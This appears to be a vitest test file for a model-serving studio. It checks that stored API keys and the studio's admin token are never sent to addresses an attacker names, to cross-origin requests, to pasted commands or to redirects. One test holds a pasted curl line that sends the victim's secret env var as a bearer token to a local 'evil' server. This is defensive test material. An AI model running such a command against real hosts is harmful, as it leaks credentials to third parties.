import { once } from "node:events";
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { createServer, type RequestListener, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { createTRPCClient, httpBatchStreamLink } from "@trpc/client";
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it, vi } from "vitest";
import type { AppRouter } from "@/server/api/router";
import { signedInHeaders } from "@/server/api/testing/signedInHeaders";
import { studioSettings } from "@/server/lib/studioSettings";
import { createRuntime, type Runtime } from "@/server/runtime";
import { POST as mutate, GET as query } from "./trpc/[trpc]/route";

const origin = "http://127.0.0.1:4600";
const nowhere = "http://127.0.0.1:9";
const key = { environment: "WEIR_ENGINE_VICTIM" };
const secret = "sk-of-the-victim";

let folder: string;
let runtime: Runtime;
let signedIn: Record<string, string> = {};
/** Of each test its own. */
let originsFile = "";
let files = 0;
const servers: Server[] = [];

/** A server that records what it was sent; the attacker's, or an engine's. */
async function recording(answer: RequestListener = (_, response) => void response.writeHead(404).end()) {
  const seen: { readonly method: string; readonly authorization: string | null }[] = [];
  const server = createServer((request, response) => {
    seen.push({ method: request.method ?? "", authorization: request.headers.authorization ?? null });
    answer(request, response);
  });
  servers.push(server.listen(0, "127.0.0.1"));
  await once(server, "listening");
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, seen };
}

beforeAll(() => {
  folder = mkdtempSync(join(tmpdir(), "weir-keys-"));
  const addresses = { WEIR_EMULATOR_URL: nowhere, WEIR_GATEWAY_ADMIN_URL: nowhere };
  runtime = createRuntime(studioSettings({ ...addresses, WEIR_STATE_DIR: folder, WEIR_ADMIN_TOKEN: "of-the-studio" }));
  Object.assign(globalThis, { [Symbol.for("weir.runtime")]: runtime });
  signedIn = signedInHeaders(runtime);
});
afterAll(async () => {
  await runtime.close();
  rmSync(folder, { recursive: true });
});
beforeEach(() => {
  vi.stubEnv("WEIR_ENGINE_VICTIM", secret);
  files += 1;
  originsFile = join(folder, `origins-${files}.json`);
  vi.stubEnv("WEIR_SECRET_ORIGINS", originsFile);
});
afterEach(() => {
  vi.unstubAllEnvs();
  for (const server of servers.splice(0)) server.close().closeAllConnections();
});

/** Enters the key for the address of an engine, as attaching that engine does. */
const enteredFor = (url: string): void => writeFileSync(originsFile, JSON.stringify({ version: 1, secrets: { [key.environment]: [url] } }));

const client = () =>
  createTRPCClient<AppRouter>({
    links: [
      httpBatchStreamLink({
        url: `${origin}/api/trpc`,
        maxItems: 1,
        headers: { ...signedIn, origin, host: "127.0.0.1:4600" },
        fetch: (url, init) => mutate(new Request(url, init as RequestInit)),
      }),
    ],
  });

const endpointAt = (url: string) => ({ name: "engine", url, key });

async function findingsAt(url: string): Promise<string> {
  const told: string[] = [];
  for await (const event of await client().clusters.tryEndpoints.mutate({ endpoints: [endpointAt(url)], generate: false }))
    if (event.kind === "tried") told.push(...event.endpoint.findings.map(({ sentence }) => sentence));
  return told.join(" ");
}

it("does not give the studio's own token to a gateway that somebody names", async () => {
  const evil = await recording();
  const connection = { kind: "endpoints", endpoints: [{ name: "a", url: nowhere, model: "llama-3.1-8b", gpu: "l40s", precision: "bf16" }] };
  const gateway = { runBy: "operator", url: evil.url, adminUrl: evil.url } as const;
  const attached = await runtime.services.attach.attach({ name: "evil", connection, gateway }, "eve");
  // A gateway that is attached is asked every second.
  await new Promise((resolve) => setTimeout(resolve, 1_500));
  expect(evil.seen.map(({ authorization }) => authorization)).not.toContain("Bearer of-the-studio");
  expect(attached).toMatchObject({ ok: false, message: expect.stringContaining("The key WEIR_ADMIN_TOKEN was entered for") });
});

describe("a stored key", () => {
  it("is not sent to an address of a page's choice by a GET of a signed-in browser", async () => {
    const evil = await recording();
    enteredFor("http://127.0.0.1:8000");
    const input = encodeURIComponent(JSON.stringify({ endpoints: [endpointAt(evil.url)], generate: false }));
    const response = await query(
      new Request(`${origin}/api/trpc/clusters.tryEndpoints?input=${input}`, { headers: { host: "127.0.0.1:4600", ...signedIn } }),
    );
    await response.text();
    expect(evil.seen).toEqual([]);
  });

  it("is not sent to another address than it was entered for by whoever is signed in, and the refusal names both", async () => {
    const evil = await recording();
    enteredFor("http://127.0.0.1:8000");
    const connection = {
      kind: "endpoints",
      endpoints: [{ name: "a", url: evil.url, key, model: "llama-3.1-8b", gpu: "l40s", precision: "bf16" }],
    };
    await runtime.services.attach.tryConnection(JSON.stringify(connection), "eve");
    const attached = await runtime.services.attach.attach({ name: "theirs", connection, gateway: null }, "eve");
    expect(evil.seen.map(({ authorization }) => authorization)).not.toContain(`Bearer ${secret}`);
    const sentence = `The key WEIR_ENGINE_VICTIM was entered for http://127.0.0.1:8000 and is not sent to ${evil.url}: to allow that, add ${evil.url} to ${originsFile}.`;
    expect(attached).toEqual({ ok: false, message: sentence });
    expect(await findingsAt(evil.url)).toBe(sentence);
  });

  it("is not sent with pasted text that names it, before it was entered", async () => {
    const evil = await recording();
    writeFileSync(originsFile, JSON.stringify({ version: 1, secrets: {} }));
    const text = `curl ${evil.url}/v1/models -H "Authorization: Bearer $WEIR_ENGINE_VICTIM"`;
    for await (const _ of await client().clusters.tryEndpoints.mutate({ text }));
    expect(evil.seen).toEqual([]);
  });

  it("does not follow a redirect to another address", async () => {
    const evil = await recording();
    const engine = await recording((_, response) => void response.writeHead(307, { location: evil.url }).end());
    enteredFor(engine.url);
    expect(await findingsAt(engine.url)).toContain(`It sends elsewhere, to ${evil.url}.`);
    expect(engine.seen[0]?.authorization).toBe(`Bearer ${secret}`);
    expect(evil.seen).toEqual([]);
  });

  it("is sent where it was entered, and elsewhere once that is allowed, with an audit line for each", async () => {
    const models = JSON.stringify({ data: [{ id: "llama-3.1-8b" }] });
    const answer: RequestListener = (_, response) => void response.writeHead(200, { "content-type": "application/json" }).end(models);
    const [engine, other] = [await recording(answer), await recording(answer)];
    writeFileSync(originsFile, JSON.stringify({ version: 1, secrets: {} }));
    await findingsAt(engine.url);
    await findingsAt(other.url);
    expect([engine.seen[0]?.authorization, other.seen]).toEqual([`Bearer ${secret}`, []]);
    expect(await client().clusters.allowKey.mutate({ key, origin: other.url })).toEqual({ ok: true });
    await findingsAt(other.url);
    expect(other.seen[0]?.authorization).toBe(`Bearer ${secret}`);
    const lines = runtime.services.audit.list(20).filter(({ subject }) => subject === key.environment);
    expect(lines.map(({ action, detail }) => `${action} ${detail}`).sort()).toEqual([
      `allow key for ${other.url}`,
      `enter key for ${engine.url}`,
    ]);
  });

  it("cannot be allowed for the studio's own token", async () => {
    const allowed = client().clusters.allowKey.mutate({ key: { environment: "WEIR_ADMIN_TOKEN" }, origin: nowhere });
    await expect(allowed).rejects.toMatchObject({ data: { code: "BAD_REQUEST" } });
  });
});

it("tells each address as soon as it is known, and ends with the page that asked", async () => {
  let cut = (): void => undefined;
  const ended = new Promise<void>((resolve) => {
    cut = resolve;
  });
  const hanging = await recording((request) => request.socket.on("close", cut));
  const quick = await recording();
  const ending = new AbortController();
  const endpoints = [hanging.url, quick.url].map((url, index) => ({ name: `e${index}`, url }));
  const events = await client().clusters.tryEndpoints.mutate({ endpoints, generate: false }, { signal: ending.signal });
  const told: string[] = [];
  const beganMs = performance.now();
  for await (const event of events) {
    told.push(event.kind === "tried" ? event.endpoint.tried.url : event.kind);
    if (event.kind === "tried") break;
  }
  ending.abort();
  await ended;
  expect(told).toEqual(["read", quick.url]);
  // Without the end, the address that hangs is waited for 2.5 s.
  expect(performance.now() - beganMs).toBeLessThan(2_000);
});
